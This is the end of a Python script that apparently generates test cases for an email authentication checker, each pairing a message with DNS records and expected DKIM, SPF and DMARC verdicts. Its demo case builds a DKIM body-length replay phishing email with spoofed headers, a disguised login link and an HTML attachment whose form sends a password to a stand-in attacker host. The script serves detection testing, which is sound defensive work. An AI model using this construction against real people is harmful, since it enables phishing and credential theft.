           {'author': 'proven', 'dkim': [['bank.example', 'pass', None]], 'spf': 'none', 'dmarc': 'pass', 'client_ip': None, 'mail_from': None, 'most': 'low'},
           {'author': 'unknown', 'dkim': [], 'spf': 'none', 'client_ip': None, 'helo': None, 'mail_from': None, 'least': 'high', 'codes': ['HDR-DUP', 'URL-MISMATCH']}],
          options=TRUST + ['--attached'])

def demo():
    body = 'Dear Alice,\n\nthe statement of your account for October is ready for you in the\ncustomer area.\n\nBank Example, 1 High Street\n'
    original = mail('Bank Example <alerts@bank.example>', 'Your statement for October', body, to='Any Customer <any@any.example>', at=NOW - 86400 - 40, mid='1794215524.7f3a')
    dkim.time = types.SimpleNamespace(time=lambda: NOW - 86400)
    signed = sign(original, 'bank.example', 's2026', 'bank', headers=['from', 'to', 'subject', 'message-id'], length=True)
    dkim.time = types.SimpleNamespace(time=lambda: NOW - 60)
    added = (b'Reply-To: Bank Example Support <bank.example.support@freemail.example>\r\n'
             b'To: Alice Adams <alice@victim.example>\r\n'
             b'Subject: Action required: your account is suspended\r\n'
             b'Content-Type: multipart/mixed; boundary="=-shown"\r\n')
    shown = ('\n--=-shown\nContent-Type: text/html; charset=utf-8\n\n'
             '<p>Dear Alice Adams,</p>\n<p>your account was suspended after 3 failed logins. Confirm within 24 hours:</p>\n'
             '<p><a href="http://bank.example.login-check.attack.example/confirm">https://www.bank.example/login</a></p>\n'
             '<p style="display:none">statement statement statement</p>\n'
             '--=-shown\nContent-Type: application/pdf; name="statement.pdf.html"\nContent-Disposition: attachment; filename="statement.pdf.html"\nContent-Transfer-Encoding: base64\n\n'
             + base64.b64encode(b'<html><form action="http://attack.example/collect"><input name="password" type="password"></form></html>').decode() + '\n--=-shown--\n')
    m = added + signed + shown.replace('\n', '\r\n').encode()
    story('demo', 'The bank once signed a statement to somebody else, with a body length (l=) and without Content-Type in h=. An attacker put a new Subject, To and Content-Type above it and his own text behind it: DKIM and DMARC pass, and nothing that Alice sees is the bank\'s.',
          path('bounce@attack.example') + received('198.51.100.66', 'mail.attack.example', by='mx.victim.example', to='alice@victim.example') + m,
          ['victim.example. IN MX 10 mx.victim.example.', 'mx.victim.example. IN A 203.0.113.25', txt('bank.example', 'v=spf1 ip4:192.0.2.10 -all'),
           txt('_dmarc.bank.example', 'v=DMARC1; p=reject; rua=mailto:dmarc@bank.example'), key('s2026', 'bank.example', 'bank'),
           txt('attack.example', 'v=spf1 ip4:198.51.100.66 -all'), txt('_dmarc.attack.example', 'v=DMARC1; p=none')],
          {'author': 'partial', 'dkim': [['bank.example', 'pass', '*']], 'spf': 'pass', 'dmarc': 'pass', 'least': 'critical', 'codes': ['DKIM-L-APPENDED', 'DKIM-HDR-ADDED']}, options=['--trust mx.victim.example'])

def main():
    simple_stories(), dmarc_stories(), spf_stories(), trace_stories(), way_story(), change_stories(), attached_stories(), demo()
    for name, files in STORIES.items():
        if len(sys.argv) > 1 and name not in sys.argv[1:]:
            continue
        d = os.path.join(ROOT, name)
        os.makedirs(d, exist_ok=True)
        for file, content in files.items():
            with open(os.path.join(d, file), 'wb') as f:
                f.write(content if isinstance(content, bytes) else content.encode())
    print('%d stories' % len(STORIES))

if __name__ == '__main__':
    main()
